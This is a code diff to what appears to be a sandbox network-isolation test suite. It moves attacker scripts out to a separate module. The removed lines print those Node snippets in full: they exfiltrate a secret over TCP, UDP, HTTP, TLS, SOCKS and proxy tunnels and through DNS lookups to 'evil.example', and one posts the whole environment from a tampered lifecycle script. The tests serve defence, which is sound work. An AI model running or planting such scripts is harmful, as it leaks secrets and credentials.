@@ -1,6 +1,19 @@
 import { openBarePod, runHost } from '../bare-pod.ts';
 import type { Attack } from '../attack.ts';
 import { buildClientHello } from '../../fuzz/network.ts';
+import {
+  ABSTRACT,
+  CONNECT,
+  ENVIRONMENT,
+  HTTP,
+  LOOKUP,
+  RAW,
+  SOCKS,
+  SYSTEM_LOOKUP,
+  TCP,
+  TLS,
+  UDP,
+} from './network-scripts.ts';
 import { LOOT, openSinks, type Sinks } from './network-sinks.ts';
 
 /** Milliseconds that an attack may take; the attacker's script ends itself before. */
@@ -21,46 +34,11 @@ type Case = {
   readonly outside?: (sinks: Sinks) => Where;
   readonly allow?: readonly string[];
   readonly resolvesTo?: readonly string[];
-  /** How the refusal is recorded: a word of the record, or packets that the namespace counted, or nothing at all. */
-  readonly evidence: string | 'counted' | 'none';
+  /** How the refusal shows: the reason in the record, `counted` by the namespace, or `none`. */
+  readonly evidence: string;
   /** Bytes of an allowed exchange may arrive; the loot may not. */
   readonly mayReach?: boolean;
 };
-
-const TCP = `const s = require('net').connect(Number(process.env.PORT), process.env.HOST, () => s.write(process.env.LOOT));
-s.on('error', () => process.exit(1)); s.setTimeout(2000, () => process.exit(0)); s.on('close', () => process.exit(0));
-setTimeout(() => process.exit(0), 1500);`;
-const RAW = `const s = require('net').connect(Number(process.env.PORT), process.env.HOST, () => s.write(Buffer.from(EXTRA, 'latin1')));
-s.on('error', () => process.exit(1)); s.on('close', () => process.exit(0)); s.resume(); setTimeout(() => process.exit(0), 1500);`;
-const UDP = `const s = require('dgram').createSocket(process.env.HOST.includes(':') ? 'udp6' : 'udp4');
-s.on('error', () => process.exit(1));
-s.send(Buffer.from(process.env.LOOT), Number(process.env.PORT), process.env.HOST, () => setTimeout(() => process.exit(0), 500));`;
-const HTTP = `const r = require('http').request({ host: process.env.HOST, port: Number(process.env.PORT), path: '/' + process.env.LOOT,
-headers: EXTRA ? { host: EXTRA } : {} }, (x) => { x.resume(); x.on('end', () => process.exit(0)); });
-r.on('error', () => process.exit(1)); r.end(); setTimeout(() => process.exit(0), 3000);`;
-/** A lifecycle script that somebody changed: it posts the whole environment. */
-const ENVIRONMENT = `const r = require('http').request({ host: process.env.HOST, port: Number(process.env.PORT), method: 'POST' },
-(x) => x.resume()); r.on('error', () => process.exit(1)); r.end(JSON.stringify(process.env) + ' HTTP/1.1\\r\\n');
-setTimeout(() => process.exit(0), 1500);`;
-const TLS = `const s = require('tls').connect({ host: process.env.HOST, port: Number(process.env.PORT), rejectUnauthorized: false,
-servername: EXTRA }); s.on('error', () => process.exit(1)); setTimeout(() => process.exit(0), 1500);`;
-const LOOKUP = `const { Resolver } = require('dns'); const r = new Resolver({ timeout: 800, tries: 1 });
-if (process.env.HOST) r.setServers([process.env.HOST + ':' + process.env.PORT]);
-r.resolve4(process.env.LOOT + '.evil.example', () => process.exit(0)); setTimeout(() => process.exit(0), 2500);`;
-const SYSTEM_LOOKUP = `if (process.env.PORT !== '53') { ${LOOKUP} } else
-require('dns').lookup(process.env.LOOT + '.evil.example', () => process.exit(0));`;
-const ABSTRACT = `const s = require('net').connect({ path: EXTRA }, () => s.write(process.env.LOOT));
-s.on('error', () => process.exit(1)); setTimeout(() => process.exit(0), 800);`;
-/** Through a proxy when it is inside, straight when it is outside: the bytes after the handshake are the attack. */
-const CONNECT = `const [place, bytes] = JSON.parse(EXTRA);
-const s = require('net').connect(Number(process.env.PORT), process.env.HOST, () => s.write(place ? 'CONNECT ' + place + ' HTTP/1.1\\r\\nhost: ' + place + '\\r\\n\\r\\n' : Buffer.from(bytes, 'latin1')));
-s.once('data', (d) => { if (place && String(d).includes(' 200 ')) s.write(Buffer.from(bytes, 'latin1')); });
-s.on('error', () => process.exit(1)); s.on('close', () => process.exit(0)); setTimeout(() => process.exit(0), 1500);`;
-const SOCKS = `const [address, bytes] = JSON.parse(EXTRA);
-const s = require('net').connect(Number(process.env.PORT), process.env.HOST, () => s.write(address ? Buffer.from([5, 1, 0]) : Buffer.from(bytes, 'latin1')));
-let n = 0; s.on('data', (d) => { n += 1; if (!address) return;
-if (n === 1) s.write(Buffer.from(address, 'hex')); else if (d[1] === 0) s.write(Buffer.from(bytes, 'latin1')); });
-s.on('error', () => process.exit(1)); s.on('close', () => process.exit(0)); setTimeout(() => process.exit(0), 1500);`;
 
 const ALLOWED = 'allowed.example';
 const hello = (...names: string[]) => buildClientHello({ names }).toString('latin1') + LOOT;
